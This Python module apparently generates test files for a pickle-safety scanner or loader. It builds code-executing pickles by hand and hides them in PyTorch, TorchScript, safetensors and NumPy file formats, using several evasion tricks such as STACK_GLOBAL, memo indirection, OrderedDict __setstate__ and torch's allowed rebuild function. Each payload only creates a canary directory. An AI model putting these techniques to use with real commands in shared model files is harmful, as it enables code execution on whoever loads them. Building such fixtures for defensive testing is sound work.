"""Pickles that run code when they are loaded without care, put together opcode by opcode, in the files they come in.

What a pickle runs is told by a module, a name in it and arguments: a `Call`. It makes a file or folder, the canary.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import torch

_TORCH_MAGIC, _TORCH_PROTOCOL = 0x1950A86A20F9469CFC6C, 1001


class Call(NamedTuple):
    """A call that makes the canary."""

    module: str
    name: str
    arguments: tuple[Any, ...]


def calls(canary: Path) -> dict[str, Call]:
    """Calls that make the canary, by what they abuse."""
    path = str(canary)
    code = f"__import__('os').mkdir({path!r})"
    return {
        "posix.mkdir": Call("posix", "mkdir", (path,)),
        "os.mkdir": Call("os", "mkdir", (path,)),
        "os.system": Call("os", "system", (f"mkdir {path}",)),
        "eval": Call("builtins", "eval", (code,)),
        "exec": Call("builtins", "exec", (code,)),
        "open": Call("builtins", "open", (path, "w")),
        "io.open": Call("_io", "open", (path, "w")),
        "subprocess": Call("subprocess", "check_call", (["mkdir", path],)),
        "a name within a module that is harmless": Call("torch.serialization", "os.mkdir", (path,)),
        "numpy's tests": Call("numpy.testing", "runstring", (code, {})),
        "torch's storages": Call("torch.storage", "_load_from_bytes", (_legacy(pickle.dumps(_Maker(path), 2)),)),
        "a class with a pool of processes": Call("subprocess", "Popen", (["mkdir", path],)),
    }


class _Maker:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.mkdir, (self._path,)


# How a pickle tells the call. Each leaves its result on the stack. ---------------------------------------------------


def _value(value: Any) -> bytes:
    """Opcodes for a plain value, without memo, as protocol 2 has them."""
    if isinstance(value, str):
        data = value.encode()
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(value, bytes):
        return _global("_codecs", "encode") + _tuple(_value(value.decode("latin1")), _value("latin1")) + b"R"
    if isinstance(value, list):
        return b"](" + b"".join(map(_value, value)) + b"e"
    assert value == {}, value
    return b"}"


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _arguments(call: Call) -> tuple[bytes, ...]:
    return tuple(map(_value, call.arguments))


def _reduced(call: Call) -> bytes:
    return _global(call.module, call.name) + _tuple(*_arguments(call)) + b"R"


def _instance(call: Call) -> bytes:
    return b"(" + b"".join(_arguments(call)) + f"i{call.module}\n{call.name}\n".encode()


def _object(call: Call) -> bytes:
    return b"(" + _global(call.module, call.name) + b"".join(_arguments(call)) + b"o"


def _names_on_the_stack(call: Call) -> bytes:
    return _value(call.module) + _value(call.name) + b"\x93" + _tuple(*_arguments(call)) + b"R"


def _out_of_the_memo(call: Call) -> bytes:
    return _global(call.module, call.name) + b"q\xc80h\xc8" + _tuple(*_arguments(call)) + b"R"


def _under_another_result(call: Call) -> bytes:
    """The call's result is dropped, and what is left is a harmless text."""
    return _reduced(call) + b"0" + _value("harmless")


def _set_by_an_ordered_dict(call: Call) -> bytes:
    """An OrderedDict, which torch allows, whose ``__setstate__`` becomes the call, and is told its argument."""
    if len(call.arguments) != 1:
        return _reduced(call)
    method = b"}" + _value("__setstate__") + _global(call.module, call.name) + b"s"
    return _global("collections", "OrderedDict") + b")R" + method + b"b" + _value(call.arguments[0]) + b"b"


def _by_what_torch_allows(call: Call) -> bytes:
    """``_rebuild_from_type_v2``, which torch allows, calls what it is told."""
    told = _global(call.module, call.name), _global("torch", "Tensor"), _tuple(*_arguments(call)), b"}"
    return _global("torch._tensor", "_rebuild_from_type_v2") + _tuple(*told) + b"R"


STYLES: dict[str, Callable[[Call], bytes]] = {
    "REDUCE": _reduced,
    "INST": _instance,
    "OBJ": _object,
    "STACK_GLOBAL": _names_on_the_stack,
    "out of the memo": _out_of_the_memo,
    "under another result": _under_another_result,
    "BUILD": _set_by_an_ordered_dict,
    "rebuilt": _by_what_torch_allows,
}
PLACES: dict[str, Callable[[bytes], bytes]] = {
    "alone": lambda value: value,
    "in a dict": lambda value: b"}" + _value("conv1.weight") + value + b"s",
    "in a dict of dicts": lambda value: b"}" + _value("model") + b"}" + _value("conv1.weight") + value + b"ss",
    "as a key": lambda value: b"}" + value + _value("x") + b"s",
    "in a list": lambda value: b"]" + value + b"a",
    "in a tuple": lambda value: _tuple(_value("x"), value),
}


def pickled(call: Call, style: str, place: str, protocol: int) -> bytes:
    """A pickle that does a call."""
    # From protocol 4 on a name may lead through a module's attributes, which some calls need.
    needs = 4 if "." in call.name or style == "STACK_GLOBAL" else protocol
    number = max(protocol, needs)
    return (b"\x80" + bytes([number]) if number >= 2 else b"") + PLACES[place](STYLES[style](call)) + b"."


# Files ---------------------------------------------------------------------------------------------------------------


def _legacy(data: bytes, place: int = 3) -> bytes:
    """torch's format of before 2020: pickles in a row, one of them ours."""
    parts = [pickle.dumps(part, 2) for part in (_TORCH_MAGIC, _TORCH_PROTOCOL, {"little_endian": True}, {}, [])]
    return b"".join([*parts[:place], data, *parts[place + 1 :]])


def _tar(data: bytes, name: str = "pickle") -> bytes:
    """torch's first format."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for member in ("sys_info", "storages", "tensors", "pickle"):
            content = data if member == name else pickle.dumps(0, 2) + pickle.dumps([], 2)
            info = tarfile.TarInfo(member)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def _zip(data: bytes, **more: bytes) -> bytes:
    """torch's format, as it saves three zeros, with another ``data.pkl``."""
    buffer, whole = io.BytesIO(), io.BytesIO()
    torch.save({"x": torch.zeros(3)}, whole)
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(buffer, "w") as new:
        for item in old.infolist():
            new.writestr(item.filename, data if item.filename.endswith("/data.pkl") else old.read(item))
        for name, content in more.items():
            new.writestr(f"archive/{name}", content)
    return buffer.getvalue()


def _torchscript(data: bytes) -> bytes:
    return _zip(data, **{"constants.pkl": data, "code/__torch__.py": b"import os\nos.abort()\n"})


def _safetensors(data: bytes) -> bytes:
    """A whole file of one tensor, whose bytes are the pickle, as are those of a text beside it."""
    header = {
        "__metadata__": {"pickle": data.decode("latin1")},
        "conv1.weight": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]},
    }
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def _npy(data: bytes) -> bytes:
    """An array of Python objects."""
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return buffer.getvalue() + data


def _npz(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("eigen_test_rgb.npy", "eigen_test_depth.npy", "eigen_test_crop.npy"):
            archive.writestr(name, _npy(data))
    return buffer.getvalue()


def _load_torch(data: bytes) -> None:
    torch.load(io.BytesIO(data), weights_only=False)


def _load_torch_file(data: bytes) -> None:
    """Of a tar torch wants a file."""
    with tempfile.NamedTemporaryFile() as file:
        file.write(data)
        file.flush()
        torch.load(file.name, weights_only=False)


def _load_numpy(data: bytes) -> None:
    loaded = np.load(io.BytesIO(data), allow_pickle=True)
    if isinstance(loaded, np.lib.npyio.NpzFile):
        loaded["eigen_test_rgb"]


class Form(NamedTuple):
    """How a pickle becomes a file, and who would run it: a careless loader, of the file or of the pickle in it."""

    write: Callable[[bytes], bytes]
    careless: Callable[[bytes], object] | None = _load_torch


FORMS: dict[str, Form] = {
    "a bare pickle": Form(bytes, pickle.loads),
    "torch's zip": Form(_zip),
    "torch's zip, ours twice": Form(lambda data: _zip(data, **{"more/data.pkl": data})),
    "torch's old format": Form(_legacy),
    "torch's old format, in the place of its magic number": Form(lambda data: _legacy(data, 0)),
    "torch's old format, in the place of its list of storages": Form(lambda data: _legacy(data, 4)),
    "torch's first format, a tar": Form(_tar, _load_torch_file),
    "torch's first format, among its storages": Form(lambda data: _tar(data, "storages"), _load_torch_file),
    "TorchScript": Form(_torchscript, None),
    "safetensors": Form(_safetensors, None),
    "NumPy's array": Form(_npy, _load_numpy),
    "NumPy's arrays in a zip": Form(_npz, _load_numpy),
}


def careless(form: str, data: bytes, file: bytes) -> None:
    """Load a file as nobody should; where no loader of such files runs pickles, the pickle in it."""
    load = FORMS[form].careless
    pickle.loads(data) if load is None else load(file)
